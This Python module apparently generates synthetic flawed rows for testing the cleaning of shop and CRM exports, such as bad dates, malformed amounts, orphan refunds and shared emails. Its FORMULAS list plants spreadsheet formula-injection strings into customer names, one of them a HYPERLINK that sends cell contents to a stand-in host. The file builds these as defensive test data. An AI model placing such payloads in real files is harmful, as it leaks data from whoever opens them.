"""Defects of single rows: what people and systems write where something else belongs."""

from clvkit.simulate.exports import SHOP
from clvkit.simulate.plan import VAT_PER_MILLE, half_up
from clvkit.simulate.planting import Exports, Hit, defect, too_small
from clvkit.simulate.sheet import minor_units, money

HUGE = "9999999999999999.99"  # more than any ledger takes for an amount
FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A1)', "+1+1", "@SUM(A1:A9)", "-2+3", "=1+1", "\t=2*3")


def _write(exports: Exports, rng, name: str, column: str, values, *, lost: bool = False) -> Hit:
    """Write one of ``values`` into ``column`` of as many lines; ``lost``: their amounts can no longer be read."""
    hit = Hit()
    for value, (path, sheet, row) in zip(values, exports.pick(name, len(values), rng), strict=True):
        minor, currency = minor_units(row[sheet.at("amount")]), row[sheet.at("currency")]
        row[sheet.at(column)] = value
        hit.add(path, f"{row[0]}/{row[1]}", currency if lost else "", -minor)
    return hit


@defect("account and email are empty on 25 shop lines")
def missing_customer(exports: Exports, rng) -> Hit:
    """Nobody to give the purchase to."""
    hit = Hit()
    for path, sheet, row in exports.pick("missing_customer", 25, rng):
        row[sheet.at("account")] = row[sheet.at("email")] = ""
        hit.add(path, f"{row[0]}/{row[1]}")
    return hit


@defect("placed_at is empty on 12 shop lines")
def missing_date(exports: Exports, rng) -> Hit:
    """No moment."""
    return _write(exports, rng, "missing_date", "placed_at", [""] * 12)


@defect("placed_at is no date on 10 shop lines")
def bad_date(exports: Exports, rng) -> Hit:
    """Days that no calendar has, and words."""
    wrong = ["2023-02-30T10:00:00Z", "2023-13-01T09:00:00Z", "yesterday", "#VALUE!", "31.31.2023"]
    return _write(exports, rng, "bad_date", "placed_at", wrong * 2)


@defect("placed_at lies in 2099 on 5 shop lines")
def future_date(exports: Exports, rng) -> Hit:
    """A purchase that has not happened."""
    return _write(exports, rng, "future_date", "placed_at", ["2099-12-31T12:00:00Z"] * 5)


@defect("placed_at is 1 January 1900 on 5 shop lines")
def ancient_date(exports: Exports, rng) -> Hit:
    """A zero that a spreadsheet took for a day."""
    return _write(exports, rng, "ancient_date", "placed_at", ["1900-01-01T00:00:00Z"] * 5)


@defect("amount is no number on 12 shop lines")
def bad_amount_text(exports: Exports, rng) -> Hit:
    """Units, words, a spreadsheet's errors."""
    wrong = ["12.34 EUR", "abc", "1.234,56", "#REF!", "--5.00", "12.3.4"]
    return _write(exports, rng, "bad_amount_text", "amount", wrong * 2, lost=True)


@defect("amount is empty on 8 shop lines")
def missing_amount(exports: Exports, rng) -> Hit:
    """No amount."""
    return _write(exports, rng, "missing_amount", "amount", [""] * 8, lost=True)


@defect(f"amount is {HUGE} on 3 shop lines")
def huge_amount(exports: Exports, rng) -> Hit:
    """A number from another column."""
    return _write(exports, rng, "huge_amount", "amount", [HUGE] * 3, lost=True)


@defect("currency is EUX, which does not exist, on 8 shop lines")
def unknown_currency(exports: Exports, rng) -> Hit:
    """A slip of the finger."""
    return _write(exports, rng, "unknown_currency", "currency", ["EUX"] * 8, lost=True)


@defect("quantity is negative on 10 shop lines that are sales, with a positive amount")
def negative_quantity_sale(exports: Exports, rng) -> Hit:
    """Signs that contradict each other."""
    hit = Hit()
    for path, sheet, row in exports.pick("negative_quantity_sale", 10, rng):
        row[sheet.at("qty")] = "-" + row[sheet.at("qty")]
        hit.add(path, f"{row[0]}/{row[1]}")
    return hit


@defect("order and line number of 10 shop lines are those of another line")
def duplicate_line_id(exports: Exports, rng) -> Hit:
    """Two different lines under one key; none of the two is a copy of the other."""
    hit, chosen = Hit(), exports.pick("duplicate_line_id", 20, rng)
    for (_, _, first), (path, _, row) in zip(chosen[::2], chosen[1::2], strict=True):
        row[:2] = first[:2]
        hit.add(path, f"{row[0]}/{row[1]}")
    return hit


@defect("5 refunds of orders that do not exist")
def orphan_refund(exports: Exports, rng) -> Hit:
    """Copies of other refunds, under an order number that nobody has."""
    hit, path, sheet = Hit(), "shop/refunds.csv", exports.sheets["shop/refunds.csv"]
    if len(sheet.rows) < 5:
        raise too_small("orphan_refund")
    for k, at in enumerate(sorted(rng.choice(len(sheet.rows), 5, replace=False))):
        row = [f"RF{900001 + k}", f"W{9900001 + k}", "1", *sheet.rows[at + k][3:]]
        sheet.rows.insert(at + k + 1, row)
        exports.used.add(id(row))
        hit.add(path, row[0], row[sheet.at("currency")], -minor_units(row[sheet.at("amount")]))
    return hit


@defect("4 refunds of three times what the line had cost")
def refund_exceeds_order(exports: Exports, rng) -> Hit:
    """More given back than was paid."""
    hit, path, sheet = Hit(), "shop/refunds.csv", exports.sheets["shop/refunds.csv"]
    lines = {(row[0], row[1]): row for p in exports.shop_months() for row in exports.sheets[p].rows}
    pool = [row for row in sheet.rows if (row[1], row[2]) in lines and id(row) not in exports.used]
    if len(pool) < 4:
        raise too_small("refund_exceeds_order")
    for at in sorted(rng.choice(len(pool), 4, replace=False)):
        row = pool[at]
        paid, before = (
            minor_units(lines[row[1], row[2]][SHOP.index("amount")]),
            minor_units(row[sheet.at("amount")]),
        )
        row[sheet.at("amount")] = money(3 * paid)
        hit.add(path, row[0], row[sheet.at("currency")], before - 3 * paid)
    return hit


@defect("12 orders of the web team's test accounts")
def test_accounts(exports: Exports, rng) -> Hit:
    """Orders that nobody paid."""
    return _new_orders(exports, rng, "test_accounts", 12, "TEST", "test", 0)


@defect("15 orders of staff, at 30 % off, by addresses of the company itself")
def staff_orders(exports: Exports, rng) -> Hit:
    """Orders on other terms than a customer's."""
    return _new_orders(exports, rng, "staff_orders", 15, "S", "staff", 30)


def _new_orders(exports: Exports, rng, name: str, count: int, prefix: str, mail: str, off: int) -> Hit:
    """Orders that resemble other orders, by accounts of the house."""
    hit = Hit()
    for k, (path, sheet, like) in enumerate(exports.pick(name, count, rng)):
        row, who = list(like), k % 3 + 1
        row[0], row[1] = f"{like[0]}-{prefix[0]}", "1"
        row[sheet.at("account")], row[sheet.at("email")] = f"{prefix}{who:03d}", f"{mail}{who}@acme.example"
        gross = int(row[sheet.at("qty")]) * minor_units(row[sheet.at("unit_price")])
        discount = half_up(gross * off, 100)
        tax = half_up((gross - discount) * VAT_PER_MILLE[row[sheet.at("country")]], 1000)
        row[sheet.at("discount")], row[sheet.at("amount")] = money(discount), money(gross - discount)
        row[sheet.at("tax")], row[sheet.at("shipping")] = money(tax), money(0)
        sheet.rows.insert(next(i for i, one in enumerate(sheet.rows) if one is like) + 1, row)
        exports.used.add(id(row))
        hit.add(path, f"{row[0]}/{row[1]}", row[sheet.at("currency")], gross - discount)
    return hit


@defect("guests are written as account 0")
def guest_as_one(exports: Exports, rng) -> Hit:
    """One customer with hundreds of orders, who is nobody."""
    hit = Hit()
    for path in [p for p in exports.sheets if p.startswith("shop/orders_")]:
        sheet = exports.sheets[path]
        for row in sheet.rows:
            if not row[sheet.at("account")] and row[sheet.at("email")]:
                row[sheet.at("account")] = "0"
                hit.add(path, f"{row[0]}/{row[1]}")
    return hit


@defect("50 persons share the address info@office.example, in the CRM and on their orders")
def shared_address(exports: Exports, rng) -> Hit:
    """An address that says nothing about who someone is."""
    hit, path, crm = Hit(), "crm/customers.csv", exports.sheets["crm/customers.csv"]
    email, shared = crm.at("email"), "info@office.example"
    pool = [row for row in crm.rows if row[crm.at("account")] and row[email].endswith("@mail.example")]
    if len(pool) < 50:
        raise too_small("shared_address")
    theirs = set()
    for at in sorted(rng.choice(len(pool), 50, replace=False)):
        theirs.add(pool[at][email])
        pool[at][email] = shared
        hit.add(path, pool[at][crm.at("account")])
    for orders in [p for p in exports.sheets if p.startswith("shop/orders_")]:
        sheet = exports.sheets[orders]
        for row in sheet.rows:
            if row[sheet.at("email")] in theirs:
                row[sheet.at("email")] = shared
                hit.add(orders)
    return hit


@defect("6 names in the CRM begin like a spreadsheet's formula")
def formula_injection_name(exports: Exports, rng) -> Hit:
    """Text that a spreadsheet would execute."""
    hit, sheet = Hit(), exports.sheets["crm/customers.csv"]
    for at, text in zip(
        sorted(rng.choice(len(sheet.rows), len(FORMULAS), replace=False)), FORMULAS, strict=True
    ):
        sheet.rows[at][sheet.at("name")] = text
        hit.add(
            "crm/customers.csv",
            sheet.rows[at][sheet.at("account")] or sheet.rows[at][sheet.at("loyalty_card")],
        )
    return hit
